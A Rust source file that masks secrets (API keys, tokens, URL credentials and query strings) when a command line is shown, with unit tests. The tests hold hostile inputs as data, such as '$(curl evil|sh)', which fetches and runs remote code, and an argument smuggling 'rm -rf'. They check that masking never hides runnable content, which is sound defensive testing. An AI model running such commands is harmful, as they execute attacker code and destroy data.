//! What of a command line is shown. A word may hold a secret; what stands for it must hide nothing that could run.

use ambit_catalog::Catalog;
use ambit_discovery::credential::{self, Value};

const MASK: &str = "(masked)";

/// The words as one line that a shell would take, without what may be secret.
pub(super) fn line<'w>(words: impl IntoIterator<Item = &'w str>, catalog: &Catalog) -> String {
    let mut name = "";
    let mut shown = Vec::new();
    for text in words {
        let it =
            if text.contains(char::is_whitespace) { inner(text, catalog) } else { word(name, text, catalog) };
        shown.push(quoted(&it));
        name = if text.starts_with('-') { text.trim_start_matches('-') } else { "" };
    }
    shown.join(" ")
}

fn quoted(text: &str) -> String {
    if text == MASK { text.to_owned() } else { shell_words::quote(text).into_owned() }
}

/// A word that may be a value of what stands before it, `NAME=value`, or an address.
fn word(name: &str, text: &str, catalog: &Catalog) -> String {
    if let Some((scheme, rest)) = text.split_once("://") {
        return address(scheme, rest);
    }
    match text.split_once('=') {
        Some((key, value)) => format!("{key}={}", value_of(key.trim_start_matches('-'), value, catalog)),
        None => value_of(name, text, catalog).to_owned(),
    }
}

/// A line within a word, such as what a shell is given: its own words, apart from all that means something to a shell.
fn inner(text: &str, catalog: &Catalog) -> String {
    let mut out = String::new();
    let (mut name, mut rest) = ("", text);
    while !rest.is_empty() {
        let end = rest.find(|it| !is_plain(it)).unwrap_or(rest.len());
        let (run, after) = rest.split_at_checked(end).unwrap_or((rest, ""));
        out.push_str(&word(name, run, catalog));
        if !run.is_empty() {
            name = if run.starts_with('-') || run.ends_with(':') { run.trim_matches(['-', ':']) } else { "" };
        }
        let mut characters = after.chars();
        out.extend(characters.next());
        rest = characters.as_str();
    }
    out
}

/// Characters that mean nothing to a shell.
fn is_plain(it: char) -> bool {
    it.is_ascii_alphanumeric() || "_-.+=:@/%".contains(it)
}

fn value_of<'t>(name: &str, value: &'t str, catalog: &Catalog) -> &'t str {
    let secret = value.len() >= 8
        && value.chars().all(is_plain)
        && !value.starts_with(['/', '.', '-'])
        && !value.chars().all(|it| it.is_ascii_digit())
        && credential::form(value) == Value::Literal
        && credential::kind(catalog, name, value).is_some();
    if secret { MASK } else { value }
}

/// An address without user info and without what its parameters say.
pub(super) fn address(scheme: &str, rest: &str) -> String {
    let (path, query) = rest.split_once('?').map_or((rest, None), |(path, query)| (path, Some(query)));
    let (host, below) = path.split_once('/').map_or((path, None), |(host, below)| (host, Some(below)));
    let host = match host.rsplit_once('@') {
        Some((_, host)) => format!("{MASK}@{host}"),
        None => host.to_owned(),
    };
    let below = below.map(|it| format!("/{}", it.split('/').map(segment).collect::<Vec<_>>().join("/")));
    let query = query.map(|_| format!("?{MASK}"));
    format!("{scheme}://{host}{}{}", below.unwrap_or_default(), query.unwrap_or_default())
}

/// A long part of mixed letters and digits is a key, not a name.
fn segment(text: &str) -> &str {
    let has = |is: fn(&u8) -> bool| text.bytes().any(|it| is(&it));
    let key = text.len() >= 24
        && has(u8::is_ascii_digit)
        && has(u8::is_ascii_alphabetic)
        && text.chars().all(is_plain);
    if key { MASK } else { text }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn shown(words: &[&str]) -> String {
        line(words.iter().copied(), &Catalog::compiled().expect("the catalog decodes"))
    }

    #[test]
    fn secrets_are_masked_and_all_else_stays() {
        assert_eq!(shown(&["npx", "-y", "@acme/x", "a b", "it's"]), "npx -y @acme/x 'a b' 'it'\\''s'");
        assert_eq!(shown(&["x", "--api-key", "0123456789ab"]), "x --api-key (masked)");
        assert_eq!(shown(&["x", "--api-key=0123456789ab"]), "x '--api-key=(masked)'");
        assert_eq!(shown(&["x", "ghp_A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8"]), "x (masked)");
        assert_eq!(
            shown(&["x", "https://me:pw@h.test/a/b?key=v"]),
            "x 'https://(masked)@h.test/a/b?(masked)'"
        );
        assert_eq!(shown(&["x", "--api-key", "${TOKEN}"]), "x --api-key '${TOKEN}'");
    }

    #[test]
    fn nothing_that_could_run_hides_behind_a_secret() {
        let line = shown(&["sh", "-c", "API_KEY=abcdef123456 x; TOKEN=aaaaaaaa$(curl evil|sh) y"]);
        assert_eq!(line, "sh -c 'API_KEY=(masked) x; TOKEN=(masked)$(curl evil|sh) y'");
        assert_eq!(shown(&["x", "--api-key", "/tmp/run-this-program"]), "x --api-key /tmp/run-this-program");
        assert_eq!(shown(&["x", "--api-key", "a;rm -rf b12345"]), "x --api-key 'a;rm -rf b12345'");
    }
}
